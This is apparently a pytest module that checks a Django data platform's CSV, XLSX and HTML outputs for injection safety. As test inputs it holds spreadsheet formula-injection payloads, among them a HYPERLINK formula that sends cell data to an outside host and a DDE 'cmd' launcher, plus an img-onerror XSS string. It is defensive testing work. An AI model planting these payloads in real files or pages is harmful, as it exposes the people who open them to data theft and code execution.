"""Output encoding (issue 15, findings 4 and 5): text that users or files put into
PRISMA comes out as inert text in spreadsheets and pages.

Spreadsheet payloads go into every text field an export carries (variable name,
unit, source, licence, custom area names, facility layer name, derived column,
title); no text cell of any CSV variant or any XLSX sheet may then start like a
formula. HTML payloads go into the texts the server renders (saved queries,
custom areas, profiles) and must arrive escaped. The explorer's JavaScript sinks
are covered in ``tests/browser/test_output_encoding.py``.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from openpyxl import load_workbook

from datapool.models import ImportRun, Variable
from datapool.services.indicators import indicator_run_create, indicator_run_execute
from lor.models import LorUnit
from lor.services.custom_areas import AreaSpec, custom_area_set_create
from tests.conftest import jfe_import

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
HTML = "<img src=x onerror=alert(1)><b>fett</b>"
HTML_ESCAPED = "&lt;img src=x onerror=alert(1)&gt;&lt;b&gt;fett&lt;/b&gt;"

# One payload per exported field, each with another formula start.
UNIT = '=HYPERLINK("http://x/"&Daten!C8)'
NAME = '=HYPERLINK("http://x.example/")'
SOURCE = "+SUM(1;2)"
LICENSE = '-1+cmd|" /C calc"!A0'
NAME_2 = "@SUM(A1:A9)"
UNIT_2 = "\t=1+1"
LAYER = "=Einrichtungen"
LAYER_SOURCE = "@Quelle"
LAYER_LICENSE = "\r=1+1"
AREA = '=HYPERLINK("http://x.example/area")'
AREA_2 = "-Gebiet"
AREA_SET = "+Kulisse"
DERIVED_LABEL = "-Differenz"
TITLE = "@Titel\n=1+1"


@pytest.fixture
def poisoned(ewr_imported, user):
    """EWR data whose documentation, layers and areas start like formulas."""
    Variable.objects.filter(key="E_E").update(
        name=NAME, unit=UNIT, source=SOURCE, license=LICENSE, description=NAME
    )
    Variable.objects.filter(key="E_EW").update(name=NAME_2, unit=UNIT_2)
    jfe_import(
        layer_name=LAYER,
        ref_date="2024-12-31",
        source=LAYER_SOURCE,
        license=LAYER_LICENSE,
    )
    area_set = custom_area_set_create(
        name=AREA_SET,
        kind="other",
        areas=[
            AreaSpec(name=AREA, keys=["0110"]),
            AreaSpec(name=AREA_2, keys=["0120"]),
        ],
        owner=user,
    )
    run = indicator_run_execute(run=indicator_run_create(custom_areas=True))
    assert run.status == ImportRun.Status.SUCCEEDED, run.error
    return area_set


def _selection(level: str) -> str:
    return json.dumps(
        {
            "level": level,
            "columns": ["E_E", "E_EW", "JFE_ANZAHL"],
            # Negative numbers: they must stay numbers, not become text.
            "derived": [{"key": "d1", "label": DERIVED_LABEL, "formula": "E_EW - E_E"}],
        }
    )


def _export(client, fmt: str, level: str) -> bytes:
    response = client.get(
        "/analysis/export/",
        {"format": fmt, "selection": _selection(level), "title": TITLE},
    )
    assert response.status_code == 200, response.content[:300]
    return response.content


def _levels(area_set) -> list[str]:
    return ["bezirk", f"custom:{area_set.pk}"]


def _assert_csv_cells_inert(rows: list[list[str]]) -> int:
    """No text cell starts like a formula; returns the number of negative numbers."""
    negatives = 0
    for row in rows:
        for cell in row:
            if NUMBER.fullmatch(cell):
                negatives += cell.startswith("-")
                continue
            assert not cell.startswith(FORMULA_STARTS), (cell, row)
    return negatives


@pytest.mark.parametrize("level_index", [0, 1], ids=["bezirk", "custom"])
def test_german_csv_has_no_cell_that_starts_like_a_formula(
    client_logged_in, poisoned, level_index
):
    level = _levels(poisoned)[level_index]
    text = _export(client_logged_in, "csv", level).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert _assert_csv_cells_inert(rows) > 0
    cells = {cell for row in rows for cell in row}
    assert f"'{TITLE}" in cells
    # Every payload reached the file, neutralised (in a cell or within the header).
    for payload in [NAME, NAME_2, LAYER, DERIVED_LABEL]:
        assert any(cell.startswith(f"'{payload}") for cell in cells), payload
    assert any(f"[{UNIT}]" in cell for cell in cells)
    assert any(cell.startswith(f"'{SOURCE}; ") for cell in cells)
    assert any(cell.startswith(f"'{LICENSE}; ") for cell in cells)
    if level.startswith("custom:"):
        assert f"'{AREA}" in cells and f"'{AREA_2}" in cells


@pytest.mark.parametrize("level_index", [0, 1], ids=["bezirk", "custom"])
def test_plain_csv_has_no_cell_or_line_that_starts_like_a_formula(
    client_logged_in, poisoned, level_index
):
    level = _levels(poisoned)[level_index]
    text = _export(client_logged_in, "csv-plain", level).decode("utf-8")
    lines = text.split("\n")
    comments = [line for line in lines if line.startswith("#")]
    # The title's line break must not start a new, formula-like line.
    assert [c.split(":")[0] for c in comments] == [
        "# Titel",
        "# Quelle",
        "# Lizenz",
        "# Stichtag",
        "# Erstellt",
    ]
    table = "\n".join(line for line in lines if not line.startswith("#"))
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert _assert_csv_cells_inert(rows) > 0
    cells = {cell for row in rows for cell in row}
    for payload in [NAME, NAME_2, LAYER, DERIVED_LABEL]:
        assert any(cell.startswith(f"'{payload}") for cell in cells), payload
    if level.startswith("custom:"):
        assert f"'{AREA}" in cells and f"'{AREA_2}" in cells


@pytest.mark.parametrize("level_index", [0, 1], ids=["bezirk", "custom"])
def test_xlsx_has_no_formula_or_formula_like_text_on_any_sheet(
    client_logged_in, poisoned, level_index
):
    level = _levels(poisoned)[level_index]
    workbook = load_workbook(io.BytesIO(_export(client_logged_in, "xlsx", level)))
    assert workbook.sheetnames == ["Daten", "Spalten"]
    texts: list[str] = []
    negatives = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (
                        sheet.title,
                        cell.coordinate,
                        cell.value,
                    )
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float) and cell.value < 0:
                    negatives += 1
    assert negatives > 0, "negative values must stay numbers"
    columns = [row for row in workbook["Spalten"].iter_rows(values_only=True) if row[0]]
    by_key = {row[0]: row for row in columns}
    # Finding 4: the unit on the "Spalten" sheet.
    assert by_key["E_E"][1:3] == (f"'{NAME}", f"'{UNIT}")
    assert by_key["E_EW"][1:3] == (f"'{NAME_2}", f"'{UNIT_2}")
    assert by_key["JFE_ANZAHL"][1].startswith(f"'{LAYER}")
    assert by_key["d1"][1] == f"'{DERIVED_LABEL}"
    assert f"'{TITLE}" in texts
    assert any(t.startswith(f"'{SOURCE}; ") for t in texts)
    assert any(t.startswith(f"'{LICENSE}; ") for t in texts)
    if level.startswith("custom:"):
        assert f"'{AREA}" in texts and f"'{AREA_2}" in texts


def test_xlsx_and_csv_keep_plain_text_and_numbers_unchanged(client_logged_in, poisoned):
    Variable.objects.filter(key="E_E").update(name="Einwohner", unit="Personen")
    workbook = load_workbook(io.BytesIO(_export(client_logged_in, "xlsx", "bezirk")))
    by_key = {row[0]: row for row in workbook["Spalten"].iter_rows(values_only=True)}
    assert by_key["E_E"][1:3] == ("Einwohner", "Personen")
    data = list(workbook["Daten"].iter_rows(values_only=True))
    mitte = next(row for row in data if row[0] == "01")
    assert mitte[1] == "Mitte" and isinstance(mitte[2], int | float)


# --- HTML rendered by the server ----------------------------------------------


def _assert_escaped(response) -> None:
    assert response.status_code == 200
    html = response.content.decode()
    assert HTML not in html
    assert "<b>fett</b>" not in html
    assert HTML_ESCAPED in html


def test_saved_query_title_and_description_are_escaped(client_logged_in, ewr_imported):
    response = client_logged_in.post(
        "/api/queries/",
        data=json.dumps(
            {
                "title": HTML,
                "description": HTML,
                "inquiry_reference": HTML[:120],
                "selection": {"level": "bezirk", "columns": ["E_E"]},
            }
        ),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    pk = response.json()["id"]
    _assert_escaped(client_logged_in.get(f"/queries/{pk}/"))
    _assert_escaped(client_logged_in.get("/queries/"))


def test_custom_area_names_are_escaped(client_logged_in, user, lor_units):
    custom_area_set_create(
        name=HTML,
        kind="other",
        description=HTML,
        areas=[AreaSpec(name=HTML, keys=["0110"])],
        owner=user,
    )
    _assert_escaped(client_logged_in.get("/analysis/areas/"))


def test_profile_texts_are_escaped(client_logged_in, user, ewr_imported):
    from profiles.services import (
        assessment_save,
        goal_save,
        measure_save,
        profile_edition_create,
    )

    region = LorUnit.objects.get(code="011001")
    edition = profile_edition_create(user=user, region=region, title=HTML)
    goal = goal_save(
        user=user,
        edition=edition,
        theme="bildung_jugend",
        text=HTML,
        department=HTML[:120],
    )
    measure_save(user=user, goal=goal, text=HTML, department=HTML[:120])
    assessment_save(user=user, edition=edition, department=HTML[:120], text=HTML)
    response = client_logged_in.get(f"/profiles/editions/{edition.pk}/")
    _assert_escaped(response)
    # Title, goal, department, measure and assessment: each shown as text.
    assert response.content.decode().count(HTML_ESCAPED) >= 5
